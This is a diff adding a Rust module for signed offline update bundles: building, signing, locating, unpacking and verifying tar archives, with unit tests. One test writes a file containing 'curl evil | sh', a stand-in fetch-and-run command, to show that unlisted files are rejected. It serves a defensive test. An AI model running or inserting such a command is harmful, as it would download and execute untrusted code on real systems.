@@ -0,0 +1,500 @@
+//! Offline update bundles.
+//!
+//! A bundle is a single tar archive carrying everything an online update
+//! would download, for units that never see the internet:
+//!
+//! ```text
+//! manifest.json            bundle manifest, covering every file below
+//! manifest.json.minisig    its signature
+//! installer/               survon-installer release, as published
+//! runtime/                 runtime-base-rust release, as published
+//! files/                   single downloads: runtime source, survon.sh,
+//!                          models, jukebox audio
+//! ```
+//!
+//! Besides the size and SHA-256 of every file, the manifest's `sources` map
+//! records which URL each file or release directory stands in for. An
+//! import points those URLs at the bundle and runs the usual update, so
+//! bundled releases still have their own release signatures checked.
+//!
+//! The bundle manifest may be signed by the release key or by any operator
+//! key placed in [`TRUSTED_KEYS_DIR`], so units can be updated from bundles
+//! an operator exported on a connected machine.
+
+use std::collections::BTreeMap;
+use std::fs;
+use std::os::unix::fs::MetadataExt;
+use std::path::{Component, Path, PathBuf};
+use std::process::{Command, Stdio};
+
+use semver::Version;
+
+use crate::error::{Error, Result};
+use crate::fetch::fetch;
+use crate::manifest::{sha256_file, Artifact, Manifest, MANIFEST_FILE, SIGNATURE_FILE};
+use crate::signature;
+use crate::RELEASE_PUBLIC_KEY;
+
+/// Manifest name of every bundle, and the prefix of its archive name.
+pub const BUNDLE_NAME: &str = "survon-bundle";
+/// Public keys (minisign `.pub` files) accepted on bundles besides the
+/// release key. Only root may add keys here; see [`trusted_keys`].
+pub const TRUSTED_KEYS_DIR: &str = "/etc/survon/trusted-keys";
+/// Where USB drives get mounted.
+pub const MEDIA_DIRS: [&str; 2] = ["/media", "/mnt"];
+
+/// The release key plus every key in [`TRUSTED_KEYS_DIR`]. A key is only
+/// trusted if it, the directory and every directory above it are owned by
+/// root and writable by nobody else; anything else could have been planted
+/// by an unprivileged user.
+pub fn trusted_keys() -> Vec<String> {
+    let mut keys = vec![RELEASE_PUBLIC_KEY.to_string()];
+    let dir = Path::new(TRUSTED_KEYS_DIR);
+    if !dir.ancestors().all(root_only) {
+        return keys;
+    }
+    if let Ok(entries) = fs::read_dir(dir) {
+        let mut paths: Vec<PathBuf> = entries
+            .filter_map(|e| Some(e.ok()?.path()))
+            .filter(|p| p.extension().is_some_and(|ext| ext == "pub"))
+            .filter(|p| root_only(p))
+            .collect();
+        paths.sort();
+        keys.extend(paths.iter().filter_map(|p| fs::read_to_string(p).ok()));
+    }
+    keys
+}
+
+/// Whether `path` is owned by root and not writable by group or others.
+/// Symlinks are followed, so a link to a user's file does not pass.
+fn root_only(path: &Path) -> bool {
+    fs::metadata(path).is_ok_and(|meta| meta.uid() == 0 && meta.mode() & 0o022 == 0)
+}
+
+/// A verified, unpacked bundle.
+#[derive(Debug)]
+pub struct Bundle {
+    dir: PathBuf,
+    manifest: Manifest,
+}
+
+impl Bundle {
+    /// Opens the unpacked bundle in `dir`. The manifest must be signed by
+    /// one of `keys`, every file it lists must match, and no file it does
+    /// not list may be present.
+    pub fn open(dir: &Path, keys: &[String]) -> Result<Self> {
+        let keys: Vec<&str> = keys.iter().map(String::as_str).collect();
+        let manifest = Manifest::load_any(dir, &keys)?;
+        if manifest.name != BUNDLE_NAME {
+            return Err(Error::Bundle(format!(
+                "{} is a `{}` manifest, not a bundle",
+                dir.display(),
+                manifest.name
+            )));
+        }
+        for (name, artifact) in &manifest.artifacts {
+            check_relative(name)?;
+            artifact.verify_file(&dir.join(name))?;
+        }
+        for file in files_under(dir, Path::new(""))? {
+            let name = file.to_string_lossy();
+            if name != MANIFEST_FILE
+                && name != SIGNATURE_FILE
+                && !manifest.artifacts.contains_key(&*name)
+            {
+                return Err(Error::Bundle(format!(
+                    "{} is not listed in the bundle manifest",
+                    dir.join(&file).display()
+                )));
+            }
+        }
+        Ok(Bundle {
+            dir: dir.to_path_buf(),
+            manifest,
+        })
+    }
+
+    /// Unpacks `archive` into `dest`, replacing anything there, and opens
+    /// it. The manifest signature is checked before the rest is extracted.
+    pub fn unpack(archive: &Path, dest: &Path, keys: &[String]) -> Result<Self> {
+        let _ = fs::remove_dir_all(dest);
+        fs::create_dir_all(dest).map_err(|e| Error::io(dest, e))?;
+        // Archives made with `tar -C dir .` name their members `./...`.
+        let signed = [MANIFEST_FILE, SIGNATURE_FILE];
+        let extract_signed = |prefix: &str| {
+            tar(Command::new("tar")
+                .arg("-xf")
+                .arg(archive)
+                .arg("-C")
+                .arg(dest)
+                .args(signed.map(|name| format!("{prefix}{name}"))))
+        };
+        extract_signed("").or_else(|_| extract_signed("./"))?;
+        let key_refs: Vec<&str> = keys.iter().map(String::as_str).collect();
+        Manifest::load_any(dest, &key_refs)?;
+        tar(Command::new("tar")
+            .arg("-xf")
+            .arg(archive)
+            .arg("-C")
+            .arg(dest)
+            .arg("--no-same-owner"))?;
+        Bundle::open(dest, keys)
+    }
+
+    pub fn dir(&self) -> &Path {
+        &self.dir
+    }
+
+    pub fn manifest(&self) -> &Manifest {
+        &self.manifest
+    }
+
+    /// The `file://` URL standing in for `url`, if the bundle carries it.
+    /// A bundled release directory also covers every URL below it.
+    pub fn local_url(&self, url: &str) -> Option<String> {
+        self.manifest.sources.iter().find_map(|(source, path)| {
+            let rest = url.strip_prefix(source.as_str())?;
+            (rest.is_empty() || rest.starts_with('/'))
+                .then(|| format!("file://{}{rest}", self.dir.join(path).display()))
+        })
+    }
+
+    /// The newest bundle archive (`survon-bundle-<version>.tar`) or
+    /// unpacked bundle directory up to three levels below `dirs`, which
+    /// covers drives mounted at `/mnt/<drive>` and `/media/<user>/<drive>`.
+    pub fn find(dirs: &[&Path]) -> Option<PathBuf> {
+        let mut candidates = Vec::new();
+        let mut level: Vec<PathBuf> = dirs.iter().map(|d| d.to_path_buf()).collect();
+        for _ in 0..3 {
+            let next: Vec<PathBuf> = level.iter().flat_map(|d| entries(d)).collect();
+            level = next.iter().filter(|p| p.is_dir()).cloned().collect();
+            candidates.extend(next);
+        }
+
+        let mut found: Vec<(Version, PathBuf)> = Vec::new();
+        for path in candidates {
+            let Some(name) = path.file_name().and_then(|n| n.to_str()) else {
+                continue;
+            };
+            let Some(rest) = name
+                .strip_prefix(BUNDLE_NAME)
+                .and_then(|r| r.strip_prefix('-'))
+            else {
+                continue;
+            };
+            let version = match rest.strip_suffix(".tar") {
+                Some(version) if path.is_file() => version,
+                None if path.join(MANIFEST_FILE).is_file() => rest,
+                _ => continue,
+            };
+            if let Ok(version) = Version::parse(version) {
+                found.push((version, path));
+            }
+        }
+        found.into_iter().max().map(|(_, path)| path)
+    }
+}
+
+/// Collects the files of a bundle being exported.
+#[derive(Debug)]
+pub struct BundleBuilder {
+    dir: PathBuf,
+    sources: BTreeMap<String, String>,
+}
+
+impl BundleBuilder {
+    /// Starts a bundle in the empty scratch directory `dir`.
+    pub fn new(dir: &Path) -> Result<Self> {
+        let _ = fs::remove_dir_all(dir);
+        fs::create_dir_all(dir).map_err(|e| Error::io(dir, e))?;
+        Ok(BundleBuilder {
+            dir: dir.to_path_buf(),
+            sources: BTreeMap::new(),
+        })
+    }
+
+    /// Downloads `url` to `path` in the bundle.
+    pub fn add_download(&mut self, url: &str, path: &str) -> Result<()> {
+        check_relative(path)?;
+        let dest = self.dir.join(path);
+        if let Some(parent) = dest.parent() {
+            fs::create_dir_all(parent).map_err(|e| Error::io(parent, e))?;
+        }
+        fetch(url, &dest)?;
+        self.sources.insert(url.to_string(), path.to_string());
+        Ok(())
+    }
+
+    /// Copies the signed release at `base_url` into directory `path`: its
+    /// manifest and signature, and those of its `assets` it lists. The
+    /// release signature is checked here and again on import.
+    pub fn add_release(
+        &mut self,
+        base_url: &str,
+        path: &str,
+        assets: &[String],
+    ) -> Result<Manifest> {
+        check_relative(path)?;
+        let dir = self.dir.join(path);
+        let manifest = Manifest::fetch(base_url, &dir, RELEASE_PUBLIC_KEY)?;
+        for asset in assets {
+            if manifest.artifacts.contains_key(asset) {
+                manifest.download(base_url, asset, &dir.join(asset))?;
+            }
+        }
+        self.sources.insert(base_url.to_string(), path.to_string());
+        Ok(manifest)
+    }
+
+    /// Writes the bundle manifest for everything added, signs it with the
+    /// minisign secret key at `secret_key` and packs the bundle into
+    /// `<out_dir>/survon-bundle-<version>.tar`. Without a `password` the
+    /// key's password is asked for on the terminal.
+    pub fn finish(
+        self,
+        version: &Version,
+        secret_key: &Path,
+        password: Option<String>,
+        out_dir: &Path,
+    ) -> Result<PathBuf> {
+        let mut artifacts = BTreeMap::new();
+        for file in files_under(&self.dir, Path::new(""))? {
+            let path = self.dir.join(&file);
+            let size = fs::metadata(&path).map_err(|e| Error::io(&path, e))?.len();
+            let sha256 = sha256_file(&path)?;
+            artifacts.insert(
+                file.to_string_lossy().into_owned(),
+                Artifact { sha256, size },
+            );
+        }
+        let manifest = Manifest {
+            name: BUNDLE_NAME.to_string(),
+            version: version.clone(),
+            artifacts,
+            sources: self.sources,
+        };
+        let json =
+            serde_json::to_vec_pretty(&manifest).map_err(|e| Error::Manifest(e.to_string()))?;
+        let json_path = self.dir.join(MANIFEST_FILE);
+        fs::write(&json_path, &json).map_err(|e| Error::io(&json_path, e))?;
+
+        let comment = format!("{BUNDLE_NAME} {version}");
+        let signature = signature::sign(&json, secret_key, password, &comment)?;
+        let sig_path = self.dir.join(SIGNATURE_FILE);
+        fs::write(&sig_path, signature).map_err(|e| Error::io(&sig_path, e))?;
+
+        fs::create_dir_all(out_dir).map_err(|e| Error::io(out_dir, e))?;
+        let archive = out_dir.join(format!("{BUNDLE_NAME}-{version}.tar"));
+        // The manifest goes first so an import can check it without
+        // reading through the whole archive.
+        let mut members = vec![MANIFEST_FILE.to_string(), SIGNATURE_FILE.to_string()];
+        let mut top: Vec<String> = fs::read_dir(&self.dir)
+            .map_err(|e| Error::io(&self.dir, e))?
+            .filter_map(|e| Some(e.ok()?.file_name().to_string_lossy().into_owned()))
+            .filter(|name| !members.contains(name))
+            .collect();
+        top.sort();
+        members.extend(top);
+        tar(Command::new("tar")
+            .arg("-cf")
+            .arg(&archive)
+            .arg("-C")
+            .arg(&self.dir)
+            .args(&members))?;
+        Ok(archive)
+    }
+}
+
+/// Bundle paths must stay inside the bundle.
+fn check_relative(path: &str) -> Result<()> {
+    let ok = !path.is_empty()
+        && Path::new(path)
+            .components()
+            .all(|c| matches!(c, Component::Normal(_)));
+    if ok {
+        Ok(())
+    } else {
+        Err(Error::Bundle(format!("invalid path `{path}` in bundle")))
+    }
+}
+
+/// Every file below `dir`, relative to it and prefixed with `prefix`.
+fn files_under(dir: &Path, prefix: &Path) -> Result<Vec<PathBuf>> {
+    let mut files = Vec::new();
+    let entries = fs::read_dir(dir).map_err(|e| Error::io(dir, e))?;
+    for entry in entries {
+        let entry = entry.map_err(|e| Error::io(dir, e))?;
+        let name = prefix.join(entry.file_name());
+        let kind = entry.file_type().map_err(|e| Error::io(entry.path(), e))?;
+        if kind.is_dir() {
+            files.extend(files_under(&entry.path(), &name)?);
+        } else if kind.is_symlink() {
+            return Err(Error::Bundle(format!(
+                "{} is a symlink; bundles may only hold plain files",
+                entry.path().display()
+            )));
+        } else {
+            files.push(name);
+        }
+    }
+    Ok(files)
+}
+
+/// The paths in `dir`; none if it cannot be read.
+fn entries(dir: &Path) -> Vec<PathBuf> {
+    fs::read_dir(dir)
+        .map(|entries| entries.filter_map(|e| Some(e.ok()?.path())).collect())
+        .unwrap_or_default()
+}
+
+fn tar(cmd: &mut Command) -> Result<()> {
+    let output = cmd
+        .stdin(Stdio::null())
+        .output()
+        .map_err(|e| Error::Bundle(format!("could not run tar: {e}")))?;
+    if output.status.success() {
+        Ok(())
+    } else {
+        Err(Error::Bundle(format!(
+            "tar failed: {}",
+            String::from_utf8_lossy(&output.stderr).trim()
+        )))
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use survon_test_support::Scratch;
+
+    /// A minisign key pair with an empty password: the secret key written
+    /// to `<dir>/<name>.key` and the public key's `.pub` contents.
+    fn key_pair(dir: &Path, name: &str) -> (PathBuf, String) {
+        let pair = minisign::KeyPair::generate_encrypted_keypair(Some(String::new())).unwrap();
+        let secret = dir.join(format!("{name}.key"));
+        fs::write(&secret, pair.sk.to_box(None).unwrap().to_string()).unwrap();
+        (secret, pair.pk.to_box().unwrap().to_string())
+    }
+
+    /// Exports a bundle carrying one downloaded model, signed with a fresh
+    /// key. Returns the archive, the model's URL and the public key.
+    fn export(dir: &Path) -> (PathBuf, String, String) {
+        let model = dir.join("tiny.gguf");
+        fs::write(&model, "weights").unwrap();
+        let url = format!("file://{}", model.display());
+        let (secret, public) = key_pair(dir, "operator");
+
+        let mut builder = BundleBuilder::new(&dir.join("build")).unwrap();
+        builder.add_download(&url, "files/tiny.gguf").unwrap();
+        let archive = builder
+            .finish(
+                &Version::new(2, 1, 0),
+                &secret,
+                Some(String::new()),
+                &dir.join("usb"),
+            )
+            .unwrap();
+        (archive, url, public)
+    }
+
+    fn bundle_error(result: Result<Bundle>) -> Error {
+        result.expect_err("bundle should have been rejected")
+    }
+
+    #[test]
+    fn exported_bundles_import() {
+        let dir = Scratch::new("bundle");
+        let (archive, url, public) = export(&dir);
+        assert_eq!(archive, dir.join("usb/survon-bundle-2.1.0.tar"));
+        assert_eq!(Bundle::find(&[dir.path()]), Some(archive.clone()));
+
+        let unpacked = dir.join("import");
+        let bundle = Bundle::unpack(&archive, &unpacked, &[public]).unwrap();
+        assert_eq!(bundle.manifest().version, Version::new(2, 1, 0));
+        assert_eq!(
+            bundle.manifest().artifacts.keys().collect::<Vec<_>>(),
+            ["files/tiny.gguf"]
+        );
+        assert_eq!(
+            bundle.local_url(&url),
+            Some(format!(
+                "file://{}",
+                unpacked.join("files/tiny.gguf").display()
+            ))
+        );
+        assert_eq!(bundle.local_url("https://example.com/tiny.gguf"), None);
+    }
+
+    #[test]
+    fn bundles_need_a_trusted_signature() {
+        let dir = Scratch::new("bundle-signer");
+        let (archive, _, public) = export(&dir);
+        let (_, stranger) = key_pair(&dir, "stranger");
+        assert!(matches!(
+            bundle_error(Bundle::unpack(&archive, &dir.join("import"), &[stranger])),
+            Error::Signature(_)
+        ));
+
+        let unpacked = dir.join("unpacked");
+        Bundle::unpack(&archive, &unpacked, std::slice::from_ref(&public)).unwrap();
+        let manifest = unpacked.join(MANIFEST_FILE);
+        let json = fs::read_to_string(&manifest).unwrap();
+        fs::write(&manifest, json.replace("2.1.0", "9.0.0")).unwrap();
+        assert!(matches!(
+            bundle_error(Bundle::open(&unpacked, &[public])),
+            Error::Signature(_)
+        ));
+    }
+
+    #[test]
+    fn every_file_must_match_the_manifest() {
+        let dir = Scratch::new("bundle-files");
+        let (archive, _, public) = export(&dir);
+        let keys = [public];
+        let unpacked = dir.join("unpacked");
+        Bundle::unpack(&archive, &unpacked, &keys).unwrap();
+        let model = unpacked.join("files/tiny.gguf");
+
+        fs::write(&model, "WEIGHTS").unwrap();
+        assert!(matches!(
+            bundle_error(Bundle::open(&unpacked, &keys)),
+            Error::Checksum { expected, .. } if expected.starts_with("sha256 ")
+        ));
+        fs::write(&model, "weigh").unwrap();
+        assert!(matches!(
+            bundle_error(Bundle::open(&unpacked, &keys)),
+            Error::Checksum { expected, .. } if expected == "7 bytes"
+        ));
+        fs::remove_file(&model).unwrap();
+        assert!(matches!(
+            bundle_error(Bundle::open(&unpacked, &keys)),
+            Error::Io { .. }
+        ));
+
+        fs::write(&model, "weights").unwrap();
+        Bundle::open(&unpacked, &keys).unwrap();
+        fs::write(unpacked.join("files/extra.sh"), "curl evil | sh\n").unwrap();
+        assert!(matches!(
+            bundle_error(Bundle::open(&unpacked, &keys)),
+            Error::Bundle(message) if message.ends_with("is not listed in the bundle manifest")
+        ));
+    }
+
+    #[test]
+    fn truncated_bundles_are_rejected() {
+        let dir = Scratch::new("bundle-truncated");
+        let (archive, _, public) = export(&dir);
+        let keys = [public];
+        let bytes = fs::read(&archive).unwrap();
+        // tar pads archives to 10 KiB records; cut into the last member.
+        let last = bytes
+            .windows(11)
+            .rposition(|w| w == b"files/tiny.")
+            .unwrap();
+        for len in [100, last + 700] {
+            let truncated = dir.join(format!("truncated-{len}.tar"));
+            fs::write(&truncated, &bytes[..len]).unwrap();
+            bundle_error(Bundle::unpack(&truncated, &dir.join("import"), &keys));
+        }
+    }
+}